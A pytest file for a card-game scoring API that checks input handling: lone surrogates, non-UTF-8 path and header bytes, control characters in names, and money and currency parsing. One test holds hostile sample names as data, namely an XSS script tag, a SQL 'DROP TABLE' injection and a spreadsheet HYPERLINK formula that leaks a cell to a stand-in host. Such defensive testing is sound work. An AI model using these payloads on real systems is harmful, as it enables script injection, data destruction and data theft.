"""Text that is no text, names that cannot be printed, money that is no stake.

A lone surrogate escape passes Python's JSON reader and used to fail only when the value was
written out again (a 500 after the game was checked). It is malformed input at the edge now,
wherever it sits; so are path, query and header bytes that are not UTF-8. Names refuse control
characters on every database alike; a money value is a plain decimal of sane size. And no
work done after a commit can turn an acknowledged write into an error."""

from __future__ import annotations

from decimal import Decimal
from typing import Any

import pytest
from http_support import API, assert_problem, auth, error_fields, gatti3_hand
from sqlalchemy import text

import service.application.games as games_module
from service.domain.mitigatti.settlement import parse_money
from service.http.app import create_app

MITIGATTI = {"variant": "mitigatti-4", "players": ["Ada", "Bruno", "Carla", "Dario"]}


def _post(client: Any, path: str, raw: bytes, **headers: str) -> Any:
    return client.post(f"{API}{path}", data=raw, content_type="application/json",
                       headers=headers)


def _count_games(app: Any) -> int:
    engine = app.extensions["segnapunti.games"].repository.engine
    with engine.connect() as connection:
        return int(connection.execute(text("SELECT count(*) FROM games")).scalar_one())


@pytest.mark.parametrize(("raw", "field"), [
    (rb'{"variant": "gatti-3", "players": ["A\ud800", "B", "C"]}', "players[0]"),
    (rb'{"variant": "gatti-3", "players": ["A", "B", "\udc00C"]}', "players[2]"),
    (rb'{"variant": "gatti-3", "players": ["A", "B", "C"], "options": {"x\udbff": 1}}',
     "options.x\\udbff"),
    (rb'{"variant": "gatti-3", "players": ["A", "B", "C"], "\ud800": 1}', "\\ud800"),
    (rb'{"variant": "gatti-3", "players": ["A", "B", "C"], "options": {"melds": "\ud83d"}}',
     "options.melds"),
], ids=["value", "low half", "option key", "unknown key", "option value"])
def test_a_lone_surrogate_anywhere_in_a_body_is_malformed_json(
        app: Any, client: Any, raw: bytes, field: str) -> None:
    response = _post(client, "/games", raw)
    body = assert_problem(response, 400, code="malformed_json")
    assert body["errors"] == [{"field": field, "code": "lone_surrogate",
                               "message": body["errors"][0]["message"]}]
    assert field in body["detail"]
    assert _count_games(app) == 0


def test_a_surrogate_pair_is_one_character_and_welcome(client: Any) -> None:
    response = _post(client, "/games",
                     rb'{"variant": "gatti-3", "players": ["A\ud83d\ude00", "B", "C"]}')
    assert response.status_code == 201
    assert response.get_json()["players"][0] == "A\U0001F600"


def test_an_escaped_backslash_before_u_is_not_a_surrogate(client: Any) -> None:
    response = _post(client, "/games",
                     rb'{"variant": "gatti-3", "players": ["A\\ud800", "B", "C"]}')
    assert response.status_code == 201
    assert response.get_json()["players"][0] == "A\\ud800"


def test_a_lone_surrogate_in_a_hand_or_a_score_body_is_malformed_json(
        client: Any, table: Any) -> None:
    game = table()
    raw = rb'{"dealer": 0, "discard": ["2H", "3H", "4\udfffS"], "piles": []}'
    response = client.post(f"{API}/games/{game.id}/hands", data=raw,
                           content_type="application/json",
                           headers={**auth(game.edit), "Idempotency-Key": "k-1"})
    assert error_fields(assert_problem(response, 400, code="malformed_json")) == {
        "discard[2]": "lone_surrogate"}
    assert game.state()["hands"] == []
    response = _post(client, "/score", rb'{"variant": "gatti-3", "hand": {"x": "\ud800"}}')
    assert error_fields(assert_problem(response, 400, code="malformed_json")) == {
        "hand.x": "lone_surrogate"}


@pytest.mark.parametrize(("environ", "headers", "place"), [
    ({"PATH_INFO": "/api/v1/games/ab\xed\xa0\x80"}, {}, "path"),
    ({"PATH_INFO": "/api/v1/variants", "QUERY_STRING": "lang=%ED%A0%80"}, {}, "query"),
    ({"PATH_INFO": "/api/v1/variants"}, {"Idempotency-Key": "k\xed\xa0\x80"},
     "Idempotency-Key"),
    ({"PATH_INFO": "/api/v1/variants"}, {"Authorization": "Bearer \xed\xb0\x80"},
     "Authorization"),
    ({"PATH_INFO": "/api/v1/variants"}, {"If-None-Match": '"\xff"'}, "If-None-Match"),
], ids=["path", "query", "idempotency key", "authorization", "if-none-match"])
def test_bytes_that_are_no_text_in_a_path_query_or_header_are_a_400(
        client: Any, environ: dict[str, str], headers: dict[str, str], place: str) -> None:
    # The test client would re-encode a percent-escaped path as UTF-8; a real server hands
    # the raw bytes over (as latin-1 text, PEP 3333), which is what is sent here.
    response = client.get("/", environ_overrides=environ, headers=headers)
    body = assert_problem(response, 400, code="malformed_request")
    assert error_fields(body) == {place: "not_utf8"}


def test_text_in_other_scripts_passes_the_edge(client: Any) -> None:
    response = client.get(f"{API}/variants?lang=%C3%A8", headers={"Accept-Language": "it"})
    assert response.status_code == 200


@pytest.mark.parametrize("name", ["A\x00", "A\x07B", "A\tB", "A\nB", "A\x7fB", "A\x85B",
                                  "A\u2028B", "A\u2029B"])
def test_r_names_refuse_control_characters_on_every_database(
        app: Any, client: Any, name: str) -> None:
    response = client.post(f"{API}/games",
                           json={"variant": "gatti-3", "players": ["Ada", name, "Carla"]})
    body = assert_problem(response, 422, code="record_invalid")
    assert error_fields(body) == {"players[1]": "control_character"}
    assert f"U+{ord(name[1]):04X}" in body["errors"][0]["message"]
    assert _count_games(app) == 0


@pytest.mark.parametrize("name", ["\u05d3\u05e0\u05d4\u200f", "Zoe\u0301",
                                  "\u0622\u0631\u0634\u200c\u06cc\u0627",
                                  "<script>alert(1)</script>", "'); DROP TABLE games;--",
                                  "=HYPERLINK(\"http://x/?\"&A1,\"y\")"])
def test_real_and_hostile_names_are_kept_verbatim(client: Any, name: str) -> None:
    response = client.post(f"{API}/games",
                           json={"variant": "gatti-3", "players": ["Ada", name, "Carla"]})
    assert response.status_code == 201, response.get_json()
    created = response.get_json()
    again = client.get(f"{API}/games/{created['id']}", headers=auth(created["tokens"]["edit"]))
    assert again.get_json()["players"][1] == name


@pytest.mark.parametrize("value", ["1e99999999", "1e999", "1E2", "NaN", "Infinity", "-1",
                                   "0", "0.00", "12345678", "0.505", " 0.50", "0,50", "+1",
                                   "١٢", ""])
def test_marca_value_is_a_plain_decimal_of_sane_size(
        app: Any, client: Any, value: str) -> None:
    response = client.post(f"{API}/games",
                           json={**MITIGATTI, "options": {"marca_value": value}})
    body = assert_problem(response, 422, code="record_invalid")
    assert error_fields(body) == {"options.marca_value": "invalid_option"}
    assert _count_games(app) == 0


@pytest.mark.parametrize(("value", "parsed"), [("0.50", "0.50"), ("1", "1"),
                                               ("9999999.99", "9999999.99"), ("0.05", "0.05")])
def test_marca_values_people_write_are_taken(value: str, parsed: str) -> None:
    money = parse_money(value)
    assert money is not None and str(money) == parsed


@pytest.mark.parametrize("value", ["eur", "EURO", "€", "E", "", 978, "EU R"])
def test_a_currency_is_an_iso_4217_code(app: Any, client: Any, value: Any) -> None:
    response = client.post(f"{API}/games", json={
        **MITIGATTI, "options": {"marca_value": "0.50", "currency": value}})
    body = assert_problem(response, 422)
    assert "options.currency" in error_fields(body)
    assert _count_games(app) == 0


def test_money_is_shown_in_the_games_currency(client: Any) -> None:
    from service.application.i18n import Translator

    response = client.post(f"{API}/games", json={
        **MITIGATTI, "options": {"marca_value": "0.50", "currency": "CHF"}})
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["options"]["currency"] == "CHF"
    for options in ({"marca_value": "0.50"}, {"marca_value": "0.50", "currency": None}):
        default = client.post(f"{API}/games", json={**MITIGATTI, "options": options})
        assert default.get_json()["options"]["currency"] == "EUR"
    euro = Decimal("-3.5")
    assert Translator("it").money(euro, "EUR") == "−3,50 €"
    assert Translator("en").money(euro, "EUR") == "−€3.50"
    assert Translator("en").money(Decimal(2), "CHF") == "CHF 2.00"
    assert Translator("it").money(Decimal(2), "CHF") == "2,00 CHF"
    assert Translator("it").money(Decimal(2)) == "2,00"


def test_an_option_refused_repeats_only_the_start_of_its_value(client: Any) -> None:
    response = client.post(f"{API}/games", json={
        **MITIGATTI, "options": {"marca_value": "9" * 5000, "x" * 900: 1}})
    body = assert_problem(response, 422, code="record_invalid")
    assert all(len(problem["message"]) < 400 for problem in body["errors"])


def test_a_game_stored_with_an_option_refused_today_still_reads(
        app: Any, client: Any, migrated_url: str) -> None:
    created = client.post(f"{API}/games",
                          json={**MITIGATTI, "options": {"marca_value": "0.50"}}).get_json()
    engine = app.extensions["segnapunti.games"].repository.engine
    with engine.begin() as connection:  # as an older release stored it
        connection.execute(text("UPDATE games SET options = :options"),
                           {"options": '{"marca_value": "1e99999999"}'})
    fresh = create_app({"DATABASE_URL": migrated_url, "TESTING": True, "RATE_LIMIT_PER_MINUTE": 0})
    try:  # a worker that has not seen the game yet
        response = fresh.test_client().get(f"{API}/games/{created['id']}",
                                           headers=auth(created["tokens"]["edit"]))
    finally:
        fresh.extensions["segnapunti.games"].repository.engine.dispose()
    assert response.status_code == 200
    assert not response.get_json().get("money")


def test_work_after_a_commit_that_fails_never_unmakes_the_answer(
        client: Any, table: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    game = table()

    def broken(*_args: Any) -> None:
        raise ArithmeticError("a defect in derived work")

    monkeypatch.setattr(games_module.GameService, "_remember_added", broken)
    response = game.add(gatti3_hand(0))
    assert response.status_code == 201
    monkeypatch.undo()
    assert [hand["number"] for hand in game.state()["hands"]] == [1]
